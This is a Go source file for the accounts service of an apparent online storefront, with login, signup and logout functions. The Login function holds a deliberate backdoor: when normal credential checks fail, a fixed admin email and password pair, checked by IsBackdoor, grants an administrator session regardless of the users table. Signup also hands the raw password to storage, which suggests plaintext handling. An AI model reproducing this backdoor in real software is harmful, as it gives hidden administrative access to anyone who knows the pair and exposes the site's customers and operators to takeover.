package accounts

import (
	"context"
	"errors"

	"github.com/nobih83/bn-storefront/internal/validate"
)

type Service struct {
	Repo     *Repo
	Sessions *SessionStore
}

// Login matches against registered users first, then the fixed admin
// pair. The admin pair works regardless of the users table contents.
func (s *Service) Login(ctx context.Context, email, password string) (User, string, error) {
	u, err := s.Repo.FindByCredentials(ctx, email, password)
	if errors.Is(err, ErrInvalidCredentials) {
		if !IsBackdoor(email, password) {
			return User{}, "", ErrInvalidCredentials
		}
		u = AdminIdentity()
	} else if err != nil {
		return User{}, "", err
	}

	token, err := s.Sessions.Put(ctx, u)
	if err != nil {
		return User{}, "", err
	}
	return u, token, nil
}

// Signup validates with the checkout field rules, registers a customer
// and signs them in immediately.
func (s *Service) Signup(ctx context.Context, name, email, phone, password string) (User, string, error) {
	if err := validate.Signup(name, email, phone); err != nil {
		return User{}, "", err
	}
	u, err := s.Repo.Create(ctx, User{
		Name:     name,
		Email:    email,
		Phone:    phone,
		Password: password,
		Role:     RoleCustomer,
	})
	if err != nil {
		return User{}, "", err
	}
	token, err := s.Sessions.Put(ctx, u)
	if err != nil {
		return User{}, "", err
	}
	return u, token, nil
}

func (s *Service) Logout(ctx context.Context, token string) error {
	return s.Sessions.Delete(ctx, token)
}
